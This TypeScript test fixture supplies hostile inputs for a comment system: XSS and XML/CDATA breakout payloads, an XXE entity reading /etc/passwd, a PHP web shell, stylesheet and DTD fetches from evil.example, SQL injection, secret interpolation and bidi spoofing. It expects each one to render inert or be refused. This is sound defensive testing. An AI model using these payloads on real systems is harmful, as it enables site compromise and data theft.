// Hostile text for every field that shows reader input. Each must be either
// refused with a clear message or stored exactly and shown as inert text.

/** Accepted as written (they are legitimate text), and must render inert. */
export const HOSTILE_TEXT = [
  `<script>window.__pwned = 1; alert("x")</script>`,
  `<img src=x onerror="window.__pwned = 1">`,
  `<svg onload="window.__pwned=1"></svg>`,
  `"><iframe src="https://evil.example"></iframe>`,
  `<a href="javascript:window.__pwned=1">click</a>`,
  `javascript:window.__pwned=1`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `<style>body{display:none}</style>`,
  `{{constructor.constructor('window.__pwned=1')()}}`,
  `</textarea><script>window.__pwned=1</script>`,
  `<body onload=window.__pwned=1>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>`,
  `<input autofocus onfocus=window.__pwned=1>`,
  `<details open ontoggle=window.__pwned=1>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<object data="https://evil.example/x.swf"></object>`,
  `]]><script>window.__pwned=1</script><![CDATA[`,
  `&lt;script&gt;window.__pwned=1&lt;/script&gt;`,
  `%3Cscript%3Ewindow.__pwned=1%3C/script%3E`,
  `\u202Egnp.exe — reversed text`,
  `zero\u200Bwidth\u200Cnon\u200Djoiner\uFEFFbom`,
  `Tabs\tand\nnew lines\n\nand paragraphs`,
  `Қазақстан — 中文 — العربية — עברית — हिन्दी`,
  `Emoji 👩‍👩‍👧 🇰🇿 👍🏽 🧑‍💻`,
  `Combining: e\u0301 a\u0308 Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇`,
  `A link https://example.org/?q=<script>&x="y" here`,
  `'; DROP TABLE "Comment"; --`,
  "`${process.env.AUTH_SECRET}`",
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  "A".repeat(65_525),
  // CDATA terminators: the `feed` package split only the first one (issue 8).
  `]]>]]><script xmlns="http://www.w3.org/1999/xhtml">window.__pwned=1</script>`,
  `one ]]> two ]]> three ]]><x:evil xmlns:x="urn:evil">injected</x:evil><![CDATA[`,
  `]]]]><![CDATA[>]]><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="window.__pwned=1"/>`,
  `<![CDATA[ nested ]]> ]]> <![CDATA[ ]]>]]>]]>`,
  "]]>".repeat(21_841),
  // Namespaces: an XHTML or SVG element in a feed is live in a browser.
  `<html:script xmlns:html="http://www.w3.org/1999/xhtml">window.__pwned=1</html:script>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned=1</script></svg>`,
  `</description><description xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:window.__pwned=1">x</a>`,
  `</item></channel></rss><rss version="2.0"><channel><item><title>forged</title></item></channel></rss>`,
  `<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:window.__pwned=1">xlink</x>`,
  // Processing instructions, declarations and comments.
  `<?xml-stylesheet type="text/xsl" href="https://evil.example/steal.xsl"?>`,
  `<?xml-stylesheet type="text/css" href="data:text/css,*{display:none}"?> and text after`,
  `<?php system($_GET["c"]); ?>`,
  `<!-- a comment --><!--> <!-- --!> -->`,
  `<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>`,
  // Entities, as text: each must read back exactly as typed, not decoded.
  `&amp;lt;script&amp;gt;window.__pwned=1&amp;lt;/script&amp;gt;`,
  `&#x3C;script&#x3E;window.__pwned=1&#x3C;/script&#x3E; &#60;b&#62; &#0; &#xD800;`,
  `<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">&lol2; &nbsp; &copy; &bogus;`,
  `&amp;amp;amp; & && &; &#; &#x; a&b<c>d"e'f`,
  `\\u003cscript\\u003e \\x3cscript\\x3e &lt;![CDATA[ ]]&gt;`,
  // Script, image and SVG in forms that slip past naive filters.
  `<scr<script>ipt>window.__pwned=1</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src="x" onerror="&#x77;indow.__pwned=1">`,
  `<svg><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/></svg>`,
  `<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>`,
  `<a href="jav&#x09;ascript:window.__pwned=1">tab</a> <a href=" javascript:window.__pwned=1">space</a>`,
  // Invisible and direction-changing characters.
  `\u200Bjavascript\u200B:window.__pwned=1`,
  `admin\u2066\u2069\u2067\u2068 @\u202Aedit\u202C \u202Bltr\u202C`,
  `\u200E\u200F\u061C\u2060\u2061\u2062\u2063\u2064\u00AD\u034F\u180E`,
  `شكرا على المقال — \u202Ecod.exe\u202C — תודה`,
  // Line separators and carriage returns (XML turns a bare CR into LF).
  `line\u2028separator\u2029paragraph\r\nCRLF\rCR\u0085NEL`,
  // Characters past the Basic Multilingual Plane, and long words.
  `𝕏𝔪𝔩 𝒮𝒸𝓇𝒾𝓅𝓉 \u{1F4A9}\u{E0041}\u{10FFFD}`,
  `Supercalifragilistic${"expialidocious".repeat(400)}`,
];

/** Refused by the server, each with the field and the message a person sees. */
export const REFUSED_INPUT: { patch: Record<string, string>; field: string; message: RegExp }[] = [
  { patch: { website: "javascript:alert(1)" }, field: "website", message: /http:\/\/ or https:\/\// },
  { patch: { website: "data:text/html,<script>alert(1)</script>" }, field: "website", message: /http:\/\/ or https:\/\// },
  { patch: { website: "JaVaScRiPt:alert(1)" }, field: "website", message: /http:\/\/ or https:\/\// },
  { patch: { body: "nul\u0000byte" }, field: "body", message: /control characters/ },
  { patch: { body: "lone \uD800 surrogate" }, field: "body", message: /cannot be shown/ },
  // Noncharacters: XML cannot carry them, so no feed could show them as written.
  { patch: { body: "non\uFFFFcharacter" }, field: "body", message: /cannot be shown/ },
  { patch: { name: "non\uFFFEcharacter" }, field: "name", message: /cannot be shown/ },
  { patch: { email: "a@example.org\r\nBcc: b@example.org" }, field: "email", message: /single line/ },
  { patch: { name: "\u202Eevil" }, field: "name", message: /text-direction/ },
  { patch: { name: "x".repeat(246) }, field: "name", message: /245/ },
  { patch: { body: "x".repeat(65_526) }, field: "body", message: /65,525/ },
  { patch: { body: "A".repeat(100_000) }, field: "body", message: /65,525/ },
];

// What single-line fields refuse (lib/comments/validation.ts): line breaks,
// controls and bidi controls.
const NOT_SINGLE_LINE = /[\u0000-\u001F\u007F\u2028\u2029\u202A-\u202E\u2066-\u2069]/g;

/**
 * A hostile author name made from a hostile body: its first 60 characters
 * (whole code points, so no surrogate is split) with what a name may not hold
 * removed, plus a number that keeps names apart. As stored: trimmed.
 */
export function hostileName(body: string, index: number): string {
  return `${Array.from(body.replace(NOT_SINGLE_LINE, "")).slice(0, 60).join("").trim()} #${index}`;
}
